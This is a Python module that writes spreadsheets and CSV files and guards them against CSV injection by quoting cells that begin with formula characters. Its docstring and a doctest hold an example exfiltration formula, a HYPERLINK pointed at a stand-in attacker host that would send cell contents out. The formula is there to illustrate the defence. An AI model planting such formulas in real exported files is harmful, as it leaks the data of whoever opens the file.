"""The one place that writes spreadsheets and CSV files for people to open.

Firm names, notes and addresses come from files anyone can edit. A cell such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` becomes a live formula when a spreadsheet
program opens the file (CSV injection). Following OWASP's guidance on CSV injection, every
text cell from data that starts — also after leading white space — with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return (or the full-width ``＝＋－＠``) is prefixed with a single
quote ``'`` and written as text. Numbers, dates and booleans stay what they are. Characters
that XLSX cannot store (control characters) are removed, and text longer than Excel's
cell limit is cut.

CSV files are written in UTF-8 with a byte-order mark (``utf-8-sig``) so that Excel opens
Chinese text correctly; each file is written under a temporary name, then renamed.
"""

from __future__ import annotations

import os
import re
from collections.abc import Mapping
from pathlib import Path

import pandas as pd

__all__ = ["neutralize", "neutralize_text", "write_csv", "write_xlsx"]

_ASCII_TRIGGERS = ("=", "+", "-", "@")
FORMULA_TRIGGERS = (
    *_ASCII_TRIGGERS,
    "\t",
    "\r",
    *(chr(ord(c) + 0xFEE0) for c in _ASCII_TRIGGERS),  # their full-width forms (U+FF1D …)
)
"""Characters that make a spreadsheet program read a cell as a formula (OWASP)."""

MAX_CELL_CHARS = 32_767
"""Excel's limit on the characters of one cell."""

_LEADING_SPACE = " \n\u3000\u00a0"
_UNSTORABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def neutralize_text(text: str) -> str:
    """A text cell as it is safe to write: quoted when it could start a formula.

    Examples
    --------
    >>> neutralize_text('=HYPERLINK("http://evil.example","x")')
    '\\'=HYPERLINK("http://evil.example","x")'
    >>> neutralize_text("  +1")
    "'  +1"
    >>> neutralize_text("＠SUM(A1)"), neutralize_text("甲镇")
    ("'＠SUM(A1)", '甲镇')
    """
    text = _UNSTORABLE.sub("", text)
    if text.startswith(("\t", "\r")) or text.lstrip(_LEADING_SPACE).startswith(FORMULA_TRIGGERS):
        text = "'" + text
    return text[:MAX_CELL_CHARS]


def _cell(value: object) -> object:
    return neutralize_text(value) if isinstance(value, str) else value


def neutralize(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and headers are safe to write (see
    :func:`neutralize_text`); other cells are unchanged.

    Examples
    --------
    >>> out = neutralize(pd.DataFrame({"name": ["=1+1", "厂"], "n": [-3, 4]}))
    >>> out["name"].tolist(), out["n"].tolist()
    (["'=1+1", '厂'], [-3, 4])
    """
    out = frame.copy()
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if column.dtype == object or isinstance(column.dtype, pd.StringDtype | pd.CategoricalDtype):
            out.isetitem(i, column.astype(object).map(_cell))
    out.columns = [_cell(c) for c in out.columns]
    if out.index.dtype == object:
        out.index = out.index.map(_cell)
    return out


def _replace_atomically(path: Path, write) -> Path:
    path = Path(path)
    tmp = path.with_name(f".tmp-{path.name}")
    try:
        write(tmp)
        os.replace(tmp, path)
    finally:
        if tmp.exists():
            tmp.unlink()
    return path


def write_csv(frame: pd.DataFrame, path: str | Path, *, date_format: str | None = None) -> Path:
    """Write ``frame`` as a UTF-8 CSV with BOM and Windows line ends, text cells
    neutralised, without the index.

    Parameters
    ----------
    frame : DataFrame
        The table as people should see it.
    path : str or Path
        Destination; written to a temporary name in the same folder, then renamed.
    date_format : str, optional
        Format of datetime columns, e.g. ``"%Y-%m-%d"``.

    Returns
    -------
    Path
        ``path``.
    """
    safe = neutralize(frame)
    return _replace_atomically(
        Path(path),
        lambda tmp: safe.to_csv(
            tmp,
            index=False,
            encoding="utf-8-sig",
            date_format=date_format,
            lineterminator="\r\n",  # Excel's; also makes a lone CR in a cell quoted
        ),
    )


def write_xlsx(
    sheets: Mapping[str, pd.DataFrame], path: str | Path, *, language: str | None = None
) -> Path:
    """Write one sheet per frame (in order) to an XLSX file, text cells neutralised, every
    sheet formatted for reading and printing (:func:`inspectlib.sheets.style_sheet`).

    Parameters
    ----------
    sheets : mapping
        ``{sheet name: frame}``; frames are written without their index.
    path : str or Path
        Destination; written to a temporary name in the same folder, then renamed.
    language : {"zh", "en"}, optional
        Sheet names, headers and coded values (strata, results) in this language
        (:func:`inspectlib.sheets.labelled_sheets`); as given when None.

    Returns
    -------
    Path
        ``path``.
    """
    from inspectlib.sheets import labelled_sheets, style_sheet

    shown = labelled_sheets(sheets, language) if language else dict(sheets)

    def write(tmp: Path) -> None:
        with pd.ExcelWriter(
            tmp, engine="openpyxl", datetime_format="yyyy-mm-dd", date_format="yyyy-mm-dd"
        ) as xl:
            for name, frame in shown.items():
                safe = neutralize(frame)
                safe.to_excel(xl, sheet_name=name, index=False)
                style_sheet(xl.sheets[name], safe)

    return _replace_atomically(Path(path), write)
